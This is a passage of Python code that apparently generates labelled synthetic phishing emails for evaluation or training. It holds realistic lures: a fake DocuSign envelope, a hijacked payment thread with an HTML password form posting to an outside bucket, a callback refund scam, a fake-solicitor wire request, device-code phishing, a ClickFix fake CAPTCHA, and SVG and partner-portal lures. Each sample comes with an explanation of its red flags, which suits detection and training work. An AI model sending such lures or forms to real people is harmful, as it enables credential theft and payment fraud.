    m.body = alt(m, src, 'utf-8', 'quoted-printable', style='brand', boundary=b_java(m),
                 brand=dict(brand='Docusign', color='#1e4ca1', btn='#ffc820', lang='en', title='Docusign',
                            footer='This message was sent to you by Helen Marsh who is using the Docusign Electronic Signature Service.'))
    m.body.parts[1].body = m.body.parts[1].body.replace('color:#ffffff;text-decoration:none', 'color:#1e1e1e;text-decoration:none')
    m.h('From', addr('Helen Marsh via Docusign', 'dse@eu-docusign.net', quote=True))
    m.h('Reply-To', addr('Helen Marsh', 'helen.marsh@northbridge-controls.co.uk'))
    m.h('To', addr('James Whitaker', 'james.whitaker@example.com'))
    m.h('Message-ID', '<%s@email.amazonses.com>' % sesid)
    m.h('Subject', 'Complete with Docusign: Northbridge_Example_Supply_Framework_2027.pdf')
    m.h('MIME-Version', '1.0')
    m.h('@CT', None)
    m.h('Date', m.date('UTC'))
    m.h('Feedback-ID', '::1.eu-west-1.%s=:AmazonSES' % b64s(m.rng, 43, AL + '+/'))
    m.h('X-SES-Outgoing', '2026.10.22-54.240.4.12')
    m.what = 'Fake DocuSign envelope "Helen Marsh via Docusign" (real customer contact) from dse@eu-docusign.net via Amazon SES; REVIEW DOCUMENT goes to a Cloudflare Workers page carrying the recipient address.'
    m.why = ('Look-alike sender domain (DocuSign uses docusign.net), SES infrastructure, link not on docusign.net, copied "security code" boilerplate; '
             'Reply-To to the real contact to look consistent. The genuine envelope from the same customer is business 09.')
    m.hn = 9
    return m


def a10():
    m = Msg('attack', 10, 'en', 'thread-hijack-compromised-customer-htm', '2026-11-05 03:12:47', 'UK',
            'sarah.collins@example.com', 'mark.fletcher@penninepower.co.uk')
    m.route = routes.m365(m, 'UK', idx=0)
    orig1 = '<%s@EXCH02.corp.example.com>' % hexs(m.rng, 32)
    orig2 = '<LO2P265MB%d%s@LO2P265MB%d.GBRP265.PROD.OUTLOOK.COM>' % (4417, hexs(m.rng, 32, True), 4417)
    html_att = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Excel Online - Remittance_Advice_EGUK-26-04417.xlsx</title>
<style>body{margin:0;font-family:'Segoe UI',Arial;background:url() #e9f1ea}
.bar{background:#217346;color:#fff;padding:10px 18px;font-size:15px}
.card{width:360px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:30px}
input{width:100%;padding:8px;margin:8px 0;border:1px solid #999}
button{width:100%;background:#217346;color:#fff;border:0;padding:10px;font-size:14px}</style></head>
<body><div class="bar">Excel Online &nbsp;|&nbsp; Remittance_Advice_EGUK-26-04417.xlsx</div>
<div class="card"><p><b>This file is protected.</b><br>Confirm your email account to view the remittance advice shared by Pennine Power Systems Ltd.</p>
<form action="https://pub-7f3a1c2e9b.r2.dev/owa/verify.php" method="post">
<input type="email" name="em" value="sarah.collins@example.com"><input type="password" name="pw" placeholder="Password">
<button type="submit">View document</button></form>
<p style="font-size:11px;color:#666">Microsoft 365 &copy; 2026</p></div></body></html>
"""
    src = """Hi Sarah,

Apologies for the delay on this. Our payment run went through this morning, please find attached the remittance advice covering both invoices.

The file is protected with our document security, you may need to confirm your email login to open it.

Kind regards,
Mark

From: Sarah Collins <sarah.collins@example.com>
Sent: 04 November 2026 10:21
To: Mark Fletcher <mark.fletcher@penninepower.co.uk>
Subject: RE: Remittance advice - invoices EGUK-26-04417 / 04452

Hi Mark,

Thanks. Could you send me the remittance once the run has gone through? Both invoices (EGUK-26-04417, £18,420.00 and EGUK-26-04452, £7,936.80) have been overdue since 30 October and our credit controller has flagged the account.

Many thanks,
Sarah

Sarah Collins
Accountant | Example Group UK Ltd
400 Thames Valley Park Drive, Reading RG6 1PT

From: Mark Fletcher <mark.fletcher@penninepower.co.uk>
Sent: 02 November 2026 16:47
To: Sarah Collins <sarah.collins@example.com>
Subject: RE: Remittance advice - invoices EGUK-26-04417 / 04452

Hi Sarah,

Both are scheduled for our payment run on 5 November. I'll confirm once paid.

Regards,
Mark Fletcher
Finance Manager
Pennine Power Systems Ltd | Dean Clough Mills, Halifax HX3 5AX
"""
    a = alt(m, src, 'iso-8859-1', 'quoted-printable', style='outlook', lang='EN-GB', label='iso-8859-1')
    m.body = Multi('mixed', [a, Att(html_att.encode('utf-8'), 'text/html', 'Remittance_Advice_EGUK-26-04417.htm',
                                    note='credential form, no script')], b_outlook(m, 4))
    m.h('From', addr('Mark Fletcher', 'mark.fletcher@penninepower.co.uk'))
    m.h('To', addr('Sarah Collins', 'sarah.collins@example.com'))
    m.h('Subject', 'RE: Remittance advice - invoices EGUK-26-04417 / 04452')
    m.h('Thread-Topic', 'Remittance advice - invoices EGUK-26-04417 / 04452')
    m.h('Thread-Index', thread_index(m.rng, m.t, 3))
    m.h('Date', m.date('UTC'))
    m.h('Message-ID', routes.m365_msgid(m))
    m.h('References', orig2 + '\n ' + orig1)
    m.h('In-Reply-To', orig1)
    for hh in routes.m365_tail(m, 'penninepower.co.uk', lang='en-GB', attach=True):
        m.h(*hh)
    m.h('MIME-Version', '1.0')
    m.what = 'Thread hijack from a genuinely compromised customer mailbox (Pennine Power, Microsoft 365) replying at 03:12 in a real payment thread, attaching an .htm "remittance advice" that is an Excel-Online password form.'
    m.why = ('Correct sender and infrastructure, but the attachment is an HTML credential form posting to an r2.dev bucket, the text asks to "confirm your email login", '
             'no signature and sent in the middle of the night. Remittances are PDFs; compare the genuine customer thread in business 10.')
    m.hn = 10
    return m


def a11():
    m = Msg('attack', 11, 'en', 'callback-toad-geek-squad-renewal', '2026-11-24 16:18:51', 'UK',
            'sarah.collins@example.com', 'gsq.billingdesk.0921@gmail.com')
    m.route = routes.gmail(m, idx=1)
    src = """Dear Customer,

Thank you for renewing your Geek Squad Total Tech Protection plan. Your payment has been processed successfully and the amount will appear on your statement within 24 hours.

|Item|Details|
|Invoice number|GS-77491025|
|Product|Total Tech Protection - 3 Years (5 devices)|
|Payment method|Auto-debit|
|Amount|GBP 389.99|

If you did not authorise this renewal, or wish to cancel and receive a refund, please contact our billing department within 24 hours on **+44 20 7946 0183** (Mon-Sat, 8am-8pm). After 24 hours the renewal cannot be reversed.

Sincerely,
Geek Squad Billing Department
"""
    a = alt(m, src, 'UTF-8', 'quoted-printable', style='gmail', label='UTF-8')
    inv = pdf_att([('H', 'GEEK SQUAD'), ('S', 'Total Tech Support · Billing Department'), '',
                   ('B', 'INVOICE GS-77491025'), 'Date: 24/11/2026', '', 'Bill to: Customer account #7741-2290', '',
                   ('M', 'Description                                    Qty     Amount'),
                   ('M', 'Total Tech Protection - 3 Years (5 devices)      1   GBP 389.99'),
                   ('M', 'VAT                                                  GBP   0.00'),
                   ('M', 'TOTAL                                                GBP 389.99'), '',
                   'Status: PAID (auto-renewal)', '',
                   'For cancellation or refund call +44 20 7946 0183 within 24 hours.',
                   'Refunds cannot be processed after 24 hours.'],
                  'Invoice_GS-77491025.pdf', title='Invoice', producer='Skia/PDF m131', creator='Google Docs Renderer',
                  created=pdf_date(m, 'UTC', 30))
    m.body = Multi('mixed', [a, inv], b_gmail(m))
    m.h('MIME-Version', '1.0')
    m.h('From', addr('Geek Squad Billing', 'gsq.billingdesk.0921@gmail.com'))
    m.h('Date', m.date())
    m.h('Message-ID', gmail_msgid(m.rng))
    m.h('Subject', 'Subscription renewed - Invoice #GS-77491025')
    m.h('To', addr(None, 'sarah.collins@example.com', quote='bare'))
    m.what = 'Callback phishing (TOAD): fake "Geek Squad" renewal invoice for GBP 389.99 from a Gmail address; the only call to action is a phone number for a "refund".'
    m.why = ('No links by design: the phone call leads to a remote-access "refund" scam. Brand unrelated to the company, free-mail sender, '
             'generic "Dear Customer", 24-hour pressure, identical number in the PDF.')
    return m


def a12():
    m = Msg('attack', 12, 'en', 'fake-solicitor-completion-funds', '2026-12-03 10:02:30', 'UK',
            'james.whitaker@example.com', 'j.whitfield@whitfieldcrane-law.co.uk')
    m.route = routes.custom(m, 'sender4-op-o12.zoho.eu', 'sender4-op-o12.zoho.eu', '185.20.211.12', [
        ('from mail.zoho.eu by mx.zoho.eu\n\twith SMTP id %d%d; Thu, 3 Dec 2026 02:02:28 -0800 (PST)' % (m.rng.randrange(10**9, 10**10), m.rng.randrange(100, 999)), 0, 'PT', True)],
        tls='1.3')
    iban_s = BANK['uk_escrow_fake']
    src = """Dear Mr Whitaker,

We act for Example Group GmbH in connection with a confidential acquisition (Project Lindwurm). Dr Brenner, copied, has asked us to contact you directly.

Completion is scheduled for this afternoon. Because the German entity's payment limits cannot be raised at short notice, Dr Brenner has instructed that the UK company advance the completion deposit of GBP 148,500.00 today. The amount will be reallocated within the group after completion.

Please arrange a same-day CHAPS payment to our client account:

Account name: Whitfield Crane LLP Client Account
Bank: Barclays Bank UK PLC
Sort code: 20-98-71
Account number: 53918264
IBAN: %s
Reference: WCL/EG/4471

As the transaction is price-sensitive and subject to a non-disclosure agreement, please do not discuss it with colleagues until completion has been announced. Kindly confirm by return once the payment has been released.

Yours sincerely,

Jonathan Whitfield
Partner
Whitfield Crane LLP
1 Fleet Place, London EC4M 7WS
Authorised and regulated by the Solicitors Regulation Authority

This email is confidential and may be legally privileged.
""" % IB(iban_s)
    m.body = alt(m, src, 'UTF-8', '7bit', html_cte='quoted-printable', style='simple', boundary='----=_Part_%d_%d.%d' % (
        m.rng.randrange(10**5, 10**6), m.rng.randrange(10**8, 10**9), int(m.t.timestamp() * 1000)))
    m.h('Date', m.date())
    m.h('From', addr('Jonathan Whitfield', 'j.whitfield@whitfieldcrane-law.co.uk'))
    m.h('Reply-To', addr('Jonathan Whitfield', 'j.whitfield@whitfieldcrane-law.co.uk'))
    m.h('To', addr('James Whitaker', 'james.whitaker@example.com', quote=True))
    m.h('Cc', addr('Dr. Matthias Brenner', 'matthias.brenner@examplegroup-eu.com', quote=True))
    m.h('Message-Id', '<%s.%s.%d@whitfieldcrane-law.co.uk>' % (hexs(m.rng, 11), hexs(m.rng, 14), m.rng.randrange(10**18, 10**19)))
    m.h('Subject', 'Strictly Private & Confidential - Project Lindwurm - completion funds')
    m.h('MIME-Version', '1.0')
    m.h('@CT', None)
    m.h('Importance', 'High')
    m.h('X-Priority', '1')
    m.h('User-Agent', 'Zoho Mail')
    m.h('X-Mailer', 'Zoho Mail')
    m.what = 'Fake lawyer / CEO fraud, UK leg: "Whitfield Crane LLP" asks the UK office manager to wire GBP 148,500 "completion deposit" to a client account; the CEO is "copied" at the look-alike examplegroup-eu.com.'
    m.why = ('Newly created law-firm domain on Zoho, CC to the same look-alike CEO domain as attack 01, secrecy, same-day CHAPS, unusual intra-group flow. '
             'The company\'s real solicitors (business 14) write from hartleybenson.co.uk and explicitly warn that they never send bank details by e-mail.')
    m.hn = 14
    return m


def a13():
    m = Msg('attack', 13, 'en', 'device-code-phishing-teams', '2026-11-17 13:15:22', 'DE',
            'andreas.gross@example.com', 'erik.devries@vantor-semi.com')
    m.route = routes.m365(m, 'US', idx=0)
    src = """Hi Andreas,

Great to see you at electronica last week. As promised, let's go through the Q1 2027 allocation for the VTR32G4 family and the open design-win registrations (Northbridge, Tecnoquadri) before our internal review on Thursday.

I have set up a secure Teams session for today at 14:30 CET. Because of our new conditional access policy, external participants have to register their device once before joining:

1. Go to [a:https://microsoft.com/devicelogin|https://microsoft.com/devicelogin]
2. Enter the code: **KXP7RT2QM**
3. Sign in with your Example Group account and confirm.

The code is valid for 15 minutes, so please do it right before you join. The meeting window will open automatically afterwards.

Best regards,
Erik

Erik de Vries
Channel Manager EMEA Distribution
Vantor Semiconductor B.V. | High Tech Campus 41, 5656 AE Eindhoven
"""
    m.body = alt(m, src, 'us-ascii', '7bit', html_cte='quoted-printable', style='outlook', lang='EN-US', label='us-ascii')
    m.h('From', addr('Erik de Vries', 'erik.devries@vantor-semi.com'))
    m.h('To', addr('Andreas Groß', 'andreas.gross@example.com', 'iso-8859-1', 'Q'))
    m.h('Subject', 'Q1 2027 allocation & design-win review - Teams today 14:30')
    m.h('Thread-Topic', 'Q1 2027 allocation & design-win review - Teams today 14:30')
    m.h('Thread-Index', thread_index(m.rng, m.t))
    m.h('Date', m.date('UTC'))
    m.h('Message-ID', routes.m365_msgid(m))
    for hh in routes.m365_tail(m, 'vantor-semi.com', lang='en-US'):
        m.h(*hh)
    m.h('MIME-Version', '1.0')
    m.what = 'Device-code phishing: "Erik de Vries" of the franchising chip maker, from look-alike vantor-semi.com, asks to enter code KXP7RT2QM at microsoft.com/devicelogin "to join Teams".'
    m.why = ('The URL is genuine Microsoft, but the code was generated by the attacker (device authorization grant, Storm-2372 style): entering it signs the attacker\'s session into Example Group\'s tenant. '
             'Look-alike domain (vantor-semi.com vs vantorsemi.com) on a US Microsoft 365 tenant; Teams never requires device codes to join. Genuine invite: business 15.')
    m.hn = 15
    return m


def a14():
    m = Msg('attack', 14, 'en', 'clickfix-rfq-html-attachment', '2026-10-29 09:48:16', 'UK',
            'lena.fischer@example.com', 'purchasing@kestrel-marine.co.uk')
    m.route = routes.custom(m, 'cp12.uk-hosting-server.net', 'cp12.uk-hosting-server.net', '185.151.30.147', [
        ('from [102.89.34.211] (port=51873 helo=[192.168.0.104])\n\tby cp12.uk-hosting-server.net with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n'
         '\t(Exim 4.98)\n\t(envelope-from <purchasing@kestrel-marine.co.uk>)\n\tid 1tVb2x-0004Xy-1Q\n\tfor lena.fischer@example.com;\n\t{date}', 1, 'UK', False)],
        tls='1.3')
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>RFQ_26-1187 - Secure Document</title>
<style>body{font-family:-apple-system,Segoe UI,Arial;background:#fafafa;color:#222}
.w{max-width:520px;margin:60px auto;background:#fff;border:1px solid #ddd;padding:28px}
.cb{border:1px solid #ccc;padding:14px;display:flex;align-items:center;gap:10px;background:#f9f9f9}
.box{width:24px;height:24px;border:2px solid #888;background:#fff}
ol{line-height:2}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}</style></head>
<body><div class="w">
<h2 style="margin-top:0">Verify you are human</h2>
<p>kestrel-marine-docs needs to review the security of your connection before the document <b>RFQ_26-1187.pdf</b> can be displayed.</p>
<div class="cb"><div class="box"></div>I'm not a robot<span style="margin-left:auto;font-size:10px;color:#999">reCAPTCHA<br>Privacy - Terms</span></div>
<h3>Verification steps</h3>
<ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li>
<li>Press <kbd>Enter</kbd></li></ol>
<p style="font-size:12px;color:#666">Performance &amp; security by Cloudflare &middot; Ray ID: 8d3f1a7c2b9e4f10</p>
<!-- evaluation copy: the clipboard-writing script of the original lure has been removed; page is inert -->
</div></body></html>
"""
    body = """Hello,

Please quote your best price and lead time for the items listed in the attached RFQ (12k pcs, production call-offs from Q1 2027). The document opens in your browser.

We would appreciate your offer by Monday.

Kind regards,

Daniel Harper
Procurement
Kestrel Marine Electronics Ltd
Unit 7, Marchwood Industrial Park, Southampton SO40 4PB
"""
    m.body = Multi('mixed', [plain(body, 'utf-8', '7bit', quoted=False, extra='; format=flowed'),
                             Att(page.encode('utf-8'), 'text/html', 'RFQ_26-1187.html', note='ClickFix fake CAPTCHA, script removed')],
                   b_roundcube(m))
    m.h('MIME-Version', '1.0')
    m.h('Date', m.date())
    m.h('From', addr('Daniel Harper', 'purchasing@kestrel-marine.co.uk'))
    m.h('To', addr(None, 'lena.fischer@example.com', quote='bare'))
    m.h('Subject', 'RFQ 26-1187 - MCUs and power ICs, urgent quote')
    m.h('Message-ID', '<%s@kestrel-marine.co.uk>' % hexs(m.rng, 32))
    m.h('X-Sender', 'purchasing@kestrel-marine.co.uk')
    m.h('User-Agent', 'Roundcube Webmail/1.6.9')
    m.h('@CT', None)
    m.what = 'ClickFix: RFQ from a compromised small UK company with an HTML attachment that shows a fake CAPTCHA instructing Win+R, Ctrl+V, Enter (the original lure pastes a PowerShell command).'
    m.why = ('Legitimate-looking RFQ lure, but the attachment is an HTML "verify you are human" page whose only purpose is to make the user run clipboard content; '
             'sent via cPanel webmail from a Nigerian mobile IP. (Clipboard script removed, page inert.)')
    return m


def a15():
    m = Msg('attack', 15, 'en', 'voicemail-svg-attachment-mailgun', '2026-12-09 12:30:40', 'UK',
            'james.whitaker@example.com')
    mgid = hexs(m.rng, 24)
    m.mailfrom = 'bounce+%s.%s-james.whitaker=example.com@mg.rc-voicecloud.com' % (hexs(m.rng, 6), hexs(m.rng, 6))
    m.route = routes.custom(m, 'm204-219.eu.mailgun.net', 'm204-219.eu.mailgun.net', '161.38.204.219', [
        ('by %s with HTTP id %s; Wed, 09 Dec 2026 12:30:40 GMT' % (hexs(m.rng, 40), mgid), 0, 'UTC', False)], tls='1.3')
    url = 'https://voicemsg-playback.firebaseapp.com/#amFtZXMud2hpdGFrZXJAZXhhbXBsZS5jb20='
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="220" viewBox="0 0 640 220">
<rect width="640" height="220" rx="10" fill="#f5f7fa" stroke="#d0d7de"/>
<text x="30" y="45" font-family="Arial" font-size="20" fill="#0a2540">New voice message (0:47)</text>
<text x="30" y="72" font-family="Arial" font-size="13" fill="#555">From: +44 118 496 0732 &#8226; To: James Whitaker &#8226; 09/12/2026 12:29</text>
<a xlink:href="%s" href="%s" target="_blank">
<circle cx="70" cy="140" r="34" fill="#0073e6"/><polygon points="60,122 60,158 90,140" fill="#fff"/>
<g fill="#9bb8d9">%s</g>
<text x="120" y="195" font-family="Arial" font-size="12" fill="#0073e6">Click to play message</text></a>
</svg>
""" % (url, url, ''.join('<rect x="%d" y="%d" width="5" height="%d"/>' % (120 + i * 9, 140 - h // 2, h)
                           for i, h in enumerate([14, 30, 22, 44, 18, 36, 50, 26, 12, 40, 32, 20, 46, 28, 16, 38, 24, 42, 18, 30, 10, 34, 22, 48, 26, 14, 36, 20, 44, 12, 30, 18, 40, 24, 16, 34, 22, 12, 28, 18, 10, 26, 16, 20, 12, 8, 14, 10, 6, 8, 4, 6])))
    body = """You have received a new voice message.

Caller: +44 118 496 0732
Duration: 0:47
Received: Wed, 09 Dec 2026 12:29

The message is attached. Open the attachment in your browser to play it.

RingCentral Voice Services
"""
    m.body = Multi('mixed', [plain(body, 'us-ascii', '7bit', quoted=False),
                             Att(svg.encode('utf-8'), 'image/svg+xml', 'VM_0m47s_+441184960732.svg', note='link to phishing, no script')],
                   mgid[:30])
    m.h('Mime-Version', '1.0')
    m.h('@CT', None)
    m.h('Subject', 'Voice Message (0:47) from +44 118 496 0732')
    m.h('From', addr('RingCentral Voicemail', 'voicemail@rc-voicecloud.com'))
    m.h('To', addr(None, 'james.whitaker@example.com', quote='bare'))
    m.h('Date', m.date('UTC'))
    m.h('Message-Id', '<%s.%s@mg.rc-voicecloud.com>' % (localtime(m.t, 'UTC').strftime('%Y%m%d%H%M%S'), hexs(m.rng, 16)))
    m.h('X-Mailgun-Sid', 'WyI' + b64s(m.rng, 40, AL) + 'IiwgIm1nLnJjLXZvaWNlY2xvdWQuY29tIl0=')
    m.what = 'Voicemail lure with an SVG attachment: the "play" button in the SVG links to a Firebase-hosted phishing page with the recipient address in the fragment.'
    m.why = ('Example Group does not use RingCentral; sender rc-voicecloud.com via Mailgun; voicemails as SVG images are a current delivery trick '
             '(SVG can carry links/scripts past attachment filters). Inert copy: plain <a> link, no script.')
    return m


def a16():
    m = Msg('attack', 16, 'en', 'chipmaker-partner-portal-claim-phish', '2026-11-26 17:05:58', 'DE',
            'florian.bauer@example.com')
    sgid = b64s(m.rng, 22, AL + '-_')
    m.mailfrom = 'bounces+39915027-2c1d-florian.bauer=example.com@em8812.vantor-partnerportal.com'
    fd = 'filterdrecv-7b9d8c5f6-q4lzs'
    m.route = routes.custom(m, 'o1678.ptr3327.vantor-partnerportal.com', 'o1678.ptr3327.vantor-partnerportal.com', '167.89.112.53', [
        ('by %s with SMTP id %s-1-%s-5\n        2026-11-26 16:05:59.104738215 +0000 UTC m=+884123.004511' % (fd, fd, hexs(m.rng, 8, True)), 1, 'UTC', False),
        ('from MzkxNTAyNw (unknown)\n\tby geopod-ismtpd-21 (SG) with HTTP\n\tid %s\n\tThu, 26 Nov 2026 16:05:58.733 +0000 (UTC)' % sgid, 0, 'UTC', False)],
        tls='1.2')
    link = 'https://u39915027.ct.sendgrid.net/ls/click?upn=u001.' + b64s(m.rng, 110, AL + '-') + '-3D'
    src = """Dear Partner,

Your Ship & Debit claim has been **rejected** by Vantor Channel Operations.

|Field|Value|
|Claim number|SD-2026-1187|
|Distributor|Example Group GmbH (Account 700214)|
|End customer|Northbridge Controls Ltd|
|Part number|VTR32G474RET6|
|Quantity|6,000|
|Claimed amount|USD 14,820.00|
|Reason|Debit authorization (DA) reference missing|

Claims that are not corrected and resubmitted within 5 business days are closed automatically and cannot be reopened.

[btn:Sign in to Partner Portal|%s]

Vantor Semiconductor Channel Operations
This is an automated message from the Vantor Partner Portal.
""" % link
    m.body = alt(m, src, 'utf-8', 'quoted-printable', style='brand', boundary=b_hex(m, 64),
                 brand=dict(brand='VANTOR Partner Portal', color='#00305e', btn='#e35205', lang='en', title='Vantor Partner Portal',
                            footer='Vantor Semiconductor B.V. · High Tech Campus 41 · Eindhoven · Privacy'))
    m.h('From', addr('Vantor Partner Portal', 'noreply@vantor-partnerportal.com', quote=True))
    m.h('Mime-Version', '1.0')
    m.h('Subject', 'Action required: Ship & Debit claim SD-2026-1187 rejected')
    m.h('Date', m.date('UTC'))
    m.h('Message-ID', '<%s@geopod-ismtpd-21>' % sgid)
    m.h('X-SG-EID', b64s(m.rng, 76, AL + '+/') + '\n ' + b64s(m.rng, 60, AL + '+/') + '==')
    m.h('To', addr(None, 'florian.bauer@example.com'))
    m.h('X-Entity-ID', 'u001.' + b64s(m.rng, 22, AL + '+/') + '==')
    m.what = 'Trade-specific credential phishing: "Vantor Partner Portal" says a Ship & Debit claim was rejected and must be resubmitted within 5 days; sign-in button via SendGrid tracking to a fake portal.'
    m.why = ('Domain vantor-partnerportal.com is not the chip maker\'s (vantorsemi.com, portal on Salesforce); SendGrid redirect hides the target; deadline pressure. '
             'Real claim notices come from partnerportal@vantorsemi.com via Salesforce (business 16).')
    m.hn = 16
    return m


ALL = [a01, a02, a03, a04, a05, a06, a07, a08, a09, a10, a11, a12, a13, a14, a15, a16]
